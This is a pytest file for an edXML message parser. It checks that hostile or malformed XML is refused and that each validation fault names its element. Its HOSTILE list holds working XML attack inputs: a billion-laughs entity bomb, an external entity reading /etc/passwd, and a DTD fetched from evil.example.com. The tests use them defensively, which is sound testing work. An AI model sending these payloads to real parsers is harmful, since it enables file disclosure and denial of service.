"""What is wrong with a file is said with its element; what is hostile is not opened."""

import base64
import time

import pytest

from chibo.work.exchange.errors import FAULTS, UnreadableMessage, sentence_of
from chibo.work.exchange.rules.content import Attachment
from chibo.work.exchange.rules.elements import SCHEMA
from chibo.work.exchange.rules.faults import Unreadable, Why
from chibo.work.exchange.rules.reading import read_message
from chibo.work.exchange.rules.safe import BOUNDS, Bounds, opened
from chibo.work.exchange.rules.writing import written_letter, written_status
from tests.work.exchange.letters import changed, letter, status

WELL = written_letter(letter())
TOLD = written_status(status())


def faults(content):
    with pytest.raises(Unreadable) as refused:
        read_message(content)
    return [(fault.why.value, fault.element) for fault in refused.value.faults]


LAUGHS = b"""<?xml version="1.0"?><!DOCTYPE edXML [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">
<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">]><edXML xmlns="http://www.mic.gov.vn/TBT/QCVN_102_2016">&c;</edXML>"""
OUTSIDE = b"""<?xml version="1.0"?><!DOCTYPE edXML [<!ENTITY x SYSTEM "file:///etc/passwd">]><edXML>&x;</edXML>"""
REMOTE = b"""<?xml version="1.0"?><!DOCTYPE edXML SYSTEM "http://evil.example.com/x.dtd"><edXML/>"""

HOSTILE = [
    pytest.param(LAUGHS, "doctype", id="billion laughs"),
    pytest.param(OUTSIDE, "doctype", id="a file of this machine"),
    pytest.param(REMOTE, "doctype", id="a document type elsewhere"),
    pytest.param("\ufeff".encode() + LAUGHS, "doctype", id="behind a mark of order"),
    pytest.param(LAUGHS.decode().encode("utf-16"), "not-utf8", id="in UTF-16, where the words do not show"),
    pytest.param(b"<?xml version='1.0' encoding='UTF-7'?><edXML/>", "not-utf8", id="in UTF-7"),
    pytest.param(b"<?xml version='1.0' encoding='ISO-8859-1'?><edXML>\xe9</edXML>", "not-utf8", id="in Latin 1"),
    pytest.param(b"", "empty", id="nothing"),
    pytest.param(b" \n", "empty", id="only spaces"),
    pytest.param(b"PK\x03\x04", "not-xml", id="a zip archive"),
    pytest.param(b"<edXML", "not-xml", id="cut off"),
    pytest.param(WELL[:-40], "not-xml", id="a message cut off"),
    pytest.param(WELL.replace(b"</edXML:Subject>", b"&x;</edXML:Subject>"), "not-xml", id="an entity that nobody declared"),
    pytest.param(b"<a>" * 100 + b"</a>" * 100, "too-deep", id="deep"),
    pytest.param(b"<a>" + b"<b/>" * 50_000 + b"</a>", "too-many", id="many elements"),
    pytest.param(b"<a " + b" ".join(b"k%d='v'" % n for n in range(200_000)) + b"/>", "too-long", id="many attributes"),
    pytest.param(b"<a>" + b"x" * 3_000_000 + b"</a>", "too-long", id="a long text"),
    pytest.param(b"<html/>", "wrong-root", id="another document"),
    pytest.param(WELL.replace(b"QCVN_102_2016", b"QCVN_102_2019"), "wrong-schema", id="another schema"),
    pytest.param(b"<edXML/>", "wrong-schema", id="no schema"),
]  # fmt: skip


@pytest.mark.parametrize(("content", "why"), HOSTILE)
def test_hostile_or_foreign_files_are_not_opened(content, why):
    began = time.process_time()
    assert faults(content)[0][0] == why
    assert time.process_time() - began < 2


def test_large_attachments_do_not_count_as_words():
    big = base64.b64encode(b"\x00" * (BOUNDS.words * 2)).decode()
    assert len(opened(f"<a><ContentTransferEncoded>{big}</ContentTransferEncoded></a>".encode())) == 1


def test_marks_inside_what_looks_like_an_attachment_still_count():
    many = b"<ContentTransferEncoded><x/>" * 60 + b"</ContentTransferEncoded>" * 60
    with pytest.raises(Unreadable, match="too-many"):
        opened(b"<a>" + many + b"</a>", Bounds(marks=50))


DAY, MOMENT = "PromulgationInfo/PromulgationDate", "TraceHeaderList/TraceHeader/Timestamp"
FIRST = "AttachmentEncoded/Attachment[1]/ContentTransferEncoded"
PLACES = [
    ("<edXML:OrganId>H37.05</edXML:OrganId>", "<edXML:OrganId>H37-05</edXML:OrganId>", "bad-code", "From/OrganId"),
    ("<edXML:OrganId>H37.05</edXML:OrganId>", "", "missing", "From/OrganId"),
    ("<edXML:PromulgationDate>2026/11/05<", "<edXML:PromulgationDate>05/11/2026<", "bad-day", DAY),
    ("<edXML:PromulgationDate>2026/11/05<", "<edXML:PromulgationDate>2026/02/30<", "bad-day", DAY),
    ("<edXML:PromulgationDate>2026/11/05<", "<edXML:PromulgationDate><", "missing", DAY),
    ("<edXML:DueDate>2026/11/20<", "<edXML:DueDate>mai<", "bad-day", "DueDate"),
    ("<edXML:Timestamp>2026/11/05 08:30:00<", "<edXML:Timestamp>2026/11/05 8:30<", "bad-moment", MOMENT),
    ("<edXML:BussinessDocType>0<", "<edXML:BussinessDocType>4<", "unknown-kind", "Bussiness/BussinessDocType"),
    ("<edXML:BussinessDocType>0<", "<edXML:BussinessDocType>mới<", "bad-number", "Bussiness/BussinessDocType"),
    ("<edXML:PageAmount>3<", "<edXML:PageAmount>-3<", "bad-number", "OtherInfo/PageAmount"),
    ("<edXML:PageAmount>3<", "<edXML:PageAmount>٣<", "bad-number", "OtherInfo/PageAmount"),
    ("<edXML:CodeNotation>KH-SNNMT<", "<edXML:CodeNotation> <", "missing", "Code/CodeNotation"),
    ("</edXML:DocumentId>", "</edXML:DocumentId><edXML:DocumentId>x</edXML:DocumentId>", "twice", "DocumentId"),
    ("<ContentId>2.danhsach<", "<ContentId>1.kehoach<", "same-content-id", "Attachment/ContentId"),
    ("<AttachmentName>ke-hoach.txt<", "<AttachmentName><", "missing", "AttachmentEncoded/Attachment/AttachmentName"),
    ("<ContentTransferEncoded>", "<ContentTransferEncoded>!!", "bad-base64", FIRST),
    ("<ContentTransferEncoded>", "<ContentTransferEncoded>QQ==Q", "bad-base64", FIRST),
]  # fmt: skip


@pytest.mark.parametrize(("old", "new", "why", "element"), PLACES)
def test_a_fault_names_its_element(old, new, why, element):
    assert (why, element) in faults(changed(WELL, old, new))


def test_an_empty_attachment_is_a_fault():
    nothing = Attachment("1", "a.txt", "text/plain", b"")
    assert faults(written_letter(letter(attachments=(nothing,)))) == [("empty-attachment", FIRST)]


def test_all_faults_are_said_at_once_up_to_twenty():
    bad = WELL.replace(b"2026/11/05", b"5.11.2026").replace(b"H37.05", b"x").replace(b"<edXML:Subject>", b"<edXML:Title>")
    bad = bad.replace(b"</edXML:Subject>", b"</edXML:Title>")
    found = faults(bad)
    assert {"bad-day", "bad-code", "bad-moment", "missing"} <= {why for why, _ in found}
    assert len(found) <= 20


STATUS_PLACES = [
    ("<edXML:StatusCode>03<", "<edXML:StatusCode>3<", "unknown-status", "Status/StatusCode"),
    ("<edXML:StatusCode>03<", "<edXML:StatusCode><", "missing", "Status/StatusCode"),
    ("<edXML:Timestamp>2026/11/05 08:30:00<", "<edXML:Timestamp><", "missing", "Status/Timestamp"),
    ("<edXML:Timestamp>2026/11/05 08:30:00<", "<edXML:Timestamp>hôm qua<", "bad-moment", "Status/Timestamp"),
    ("<edXML:PromulgationDate>2026/11/05<", "<edXML:PromulgationDate>2026-11-05<", "bad-day",
     "Status/ResponseFor/PromulgationDate"),
]  # fmt: skip


@pytest.mark.parametrize(("old", "new", "why", "element"), STATUS_PLACES)
def test_a_fault_of_a_status_message_names_its_element(old, new, why, element):
    assert (why, element) in faults(changed(TOLD, old, new))


def test_a_status_without_the_paper_it_is_about_is_refused():
    bare = changed(changed(TOLD, "000.00.12.H41,2026/11/05,1/SNgV-VP", ""), "<edXML:Code>1/SNgV-VP<", "<edXML:Code><")
    assert faults(bare) == [("missing", "Status/ResponseFor/DocumentId")]


def test_a_file_without_header_says_so():
    bare = f'<edXML xmlns="{SCHEMA}"/>'.encode()
    assert faults(bare) == [("missing", "edXMLEnvelope"), ("missing", "edXMLEnvelope/edXMLHeader")]


@pytest.mark.parametrize("why", list(Why))
def test_every_fault_has_a_sentence(why):
    assert sentence_of(why, "Bussiness", "x").endswith(".")
    assert set(FAULTS) == {one.value for one in Why}


def test_the_refusal_says_all_of_them():
    refused = UnreadableMessage([("bad-day", "DueDate", "mai"), ("missing", "Subject", "")])
    assert "DueDate" in refused.sentence
    assert "Subject" in refused.sentence
